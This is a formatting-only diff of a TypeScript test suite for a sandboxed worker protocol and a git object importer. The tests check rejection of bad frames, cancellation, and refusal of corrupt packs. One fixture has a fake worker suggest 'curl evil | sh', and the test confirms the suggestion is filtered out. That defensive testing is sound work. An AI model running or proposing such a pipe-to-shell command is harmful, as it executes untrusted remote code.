@@ -21,9 +21,16 @@ const standing = { head: null, base: null, ahead: 0, behind: 0, dirty: false };
 
 /** Each says this when it was asked the first time. */
 const liars: Readonly<Record<string, { says: string; fault: RegExp }>> = {
-	"answers something else": { says: frame("answer", 1, JSON.stringify({ ...standing, dirty: "maybe" })), fault: /may not answer/ },
+	"answers something else": {
+		says: frame("answer", 1, JSON.stringify({ ...standing, dirty: "maybe" })),
+		fault: /may not answer/,
+	},
 	"offers a command that is none of ours": {
-		says: frame("answer", 1, JSON.stringify({ code: "CONFLICT", message: "no", details: {}, suggestions: ["curl evil | sh", "brood doctor"] })),
+		says: frame(
+			"answer",
+			1,
+			JSON.stringify({ code: "CONFLICT", message: "no", details: {}, suggestions: ["curl evil | sh", "brood doctor"] }),
+		),
 		fault: /never/,
 	},
 	"answers more than anybody can hold": { says: "ffffffff0100000001", fault: /a frame of 4294967295 bytes/ },
@@ -36,7 +43,13 @@ const liars: Readonly<Record<string, { says: string; fault: RegExp }>> = {
 function sceneIn(folder: string): StepContext {
 	const [slug, id, handle] = [ProjectSlug.parse("p"), AgentId.parse("a".repeat(22)), Handle.parse("a")];
 	return {
-		...{ now: 0, primaryFolder: folder, checkout: null, project: { slug, path: folder, base: "main" }, agent: { id, handle } },
+		...{
+			now: 0,
+			primaryFolder: folder,
+			checkout: null,
+			project: { slug, path: folder, base: "main" },
+			agent: { id, handle },
+		},
 		workspace: { kind: "worktree", path: folder, branch: "b", base: "main" },
 		given: { settings: settle({}, {}, "main"), base: null, branch: null, start: null, last: null, primary: null },
 	};
@@ -47,7 +60,12 @@ function roomsSaying(says: string): SandboxWorkers {
 	const script = `process.stdin.once("data", () => process.stdout.write(Buffer.from("${says}", "hex"))); setInterval(() => {}, 1000)`;
 	const program = { command: process.execPath, args: ["-e", script] };
 	const environment = { PATH: process.env["PATH"] ?? "" };
-	return new SandboxWorkers({ program, readable: [path.dirname(process.execPath)], environment, containment: "bubblewrap" });
+	return new SandboxWorkers({
+		program,
+		readable: [path.dirname(process.execPath)],
+		environment,
+		containment: "bubblewrap",
+	});
 }
 const roomAt = (folder: string): SandboxMounts => ({ hidden: [], readable: [], writable: [folder], fixed: [] });
 
@@ -56,9 +74,14 @@ describe.runIf(available.includes("bubblewrap"))("a program in a sandbox", () =>
 		const folder = freshFolder();
 		await using workers = roomsSaying(says);
 		const answer = await workers
-			.ask(roomAt(folder), steps.standing, { scene: sceneIn(folder), input: {}, timeoutMs: name === "says nothing" ? 1000 : 20_000 })
+			.ask(roomAt(folder), steps.standing, {
+				scene: sceneIn(folder),
+				input: {},
+				timeoutMs: name === "says nothing" ? 1000 : 20_000,
+			})
 			.catch((error: unknown) => error);
-		if (name.startsWith("offers")) return expect(answer).toMatchObject({ code: "CONFLICT", suggestions: ["brood doctor"] });
+		if (name.startsWith("offers"))
+			return expect(answer).toMatchObject({ code: "CONFLICT", suggestions: ["brood doctor"] });
 		expect(answer).toBeInstanceOf(SandboxFault);
 		expect(String(answer)).toMatch(fault);
 	});
@@ -67,20 +90,29 @@ describe.runIf(available.includes("bubblewrap"))("a program in a sandbox", () =>
 		const folder = freshFolder();
 		await using workers = roomsSaying(frame("bytes", 1, "the first of many"));
 		const controller = new AbortController();
-		const asked = { scene: sceneIn(folder), input: {}, signal: controller.signal, bytes: async () => controller.abort() };
+		const asked = {
+			scene: sceneIn(folder),
+			input: {},
+			signal: controller.signal,
+			bytes: async () => controller.abort(),
+		};
 		const error = await workers.ask(roomAt(folder), steps.standing, asked).catch((thrown: unknown) => thrown);
 		expect(error).toBeInstanceOf(CalledOff);
 		expect(error).not.toBeInstanceOf(SandboxFault);
 		expect(error).toMatchObject({ refusalCode: "GIT_FAILED", message: expect.stringContaining("called off") });
 		// and before it began
-		expect(await workers.ask(roomAt(folder), steps.standing, asked).catch((thrown: unknown) => thrown)).toBeInstanceOf(CalledOff);
+		expect(await workers.ask(roomAt(folder), steps.standing, asked).catch((thrown: unknown) => thrown)).toBeInstanceOf(
+			CalledOff,
+		);
 	});
 
 	test("that has hardly begun keeps nobody waiting who wants it gone", async () => {
 		const folder = freshFolder();
 		await using workers = roomsSaying("");
 		for (let time = 0; time < 10; time++) {
-			const asked = workers.ask(roomAt(folder), steps.standing, { scene: sceneIn(folder), input: {} }).catch((thrown: unknown) => thrown);
+			const asked = workers
+				.ask(roomAt(folder), steps.standing, { scene: sceneIn(folder), input: {} })
+				.catch((thrown: unknown) => thrown);
 			// the process is there, and nothing of it has run
 			await Promise.resolve();
 			await workers.leave(folder);
@@ -101,7 +133,12 @@ describe.runIf(available.includes("bubblewrap"))("a program in a sandbox", () =>
 
 describe("objects that come out of a sandbox", () => {
 	const packOf = (folder: string, want: string): Buffer =>
-		execFileSync("git", ["pack-objects", "--stdout", "--revs", "-q"], { cwd: folder, input: `${want}\n`, maxBuffer: 1e8, stdio: ["pipe", "pipe", "ignore"] });
+		execFileSync("git", ["pack-objects", "--stdout", "--revs", "-q"], {
+			cwd: folder,
+			input: `${want}\n`,
+			maxBuffer: 1e8,
+			stdio: ["pipe", "pipe", "ignore"],
+		});
 	const git = makeGit({ environment: process.env });
 
 	test("are taken if they are whole and sound, into a store that had none of them", async () => {
@@ -121,22 +158,38 @@ describe("objects that come out of a sandbox", () => {
 		const [from, to] = [makeWorld(), makeWorld()];
 		const blob = from.git(from.repository, "rev-parse", "HEAD:a.txt");
 		writeFileSync(path.join(from.root, "tree"), entry.replace("ID", blob));
-		const tree = execFileSync("sh", ["-c", `git mktree --missing < '${from.root}/tree'`], { cwd: from.repository, encoding: "utf8" }).trim();
+		const tree = execFileSync("sh", ["-c", `git mktree --missing < '${from.root}/tree'`], {
+			cwd: from.repository,
+			encoding: "utf8",
+		}).trim();
 		const want = from.git(from.repository, "commit-tree", "-m", "bad", tree);
 		const before = execFileSync("find", ["."], { cwd: path.join(to.repository, ".git/objects"), encoding: "utf8" });
 		const send = async (take: (chunk: Buffer) => Promise<void>) => await take(packOf(from.repository, want));
-		await expect(importObjects({ git, repository: to.repository, salt: "two", want: [want], have: [], send })).rejects.toThrow(
-			/index-pack|fsck|strict|-c failed/,
+		await expect(
+			importObjects({ git, repository: to.repository, salt: "two", want: [want], have: [], send }),
+		).rejects.toThrow(/index-pack|fsck|strict|-c failed/);
+		expect(execFileSync("find", ["."], { cwd: path.join(to.repository, ".git/objects"), encoding: "utf8" })).toBe(
+			before,
 		);
-		expect(execFileSync("find", ["."], { cwd: path.join(to.repository, ".git/objects"), encoding: "utf8" })).toBe(before);
 	});
 
 	test("are refused if something that they lead to is missing", async () => {
 		const [from, to] = [makeWorld(), makeWorld()];
 		const want = from.commit(from.repository, { "new.txt": "new\n" });
-		const part = execFileSync("git", ["pack-objects", "--stdout", "-q"], { cwd: from.repository, input: `${want}\n`, stdio: ["pipe", "pipe", "ignore"] });
+		const part = execFileSync("git", ["pack-objects", "--stdout", "-q"], {
+			cwd: from.repository,
+			input: `${want}\n`,
+			stdio: ["pipe", "pipe", "ignore"],
+		});
 		await expect(
-			importObjects({ git, repository: to.repository, salt: "three", want: [want], have: [], send: async (take) => await take(part) }),
+			importObjects({
+				git,
+				repository: to.repository,
+				salt: "three",
+				want: [want],
+				have: [],
+				send: async (take) => await take(part),
+			}),
 		).rejects.toThrow();
 		expect(() => to.git(to.repository, "cat-file", "-e", want)).toThrow();
 	});
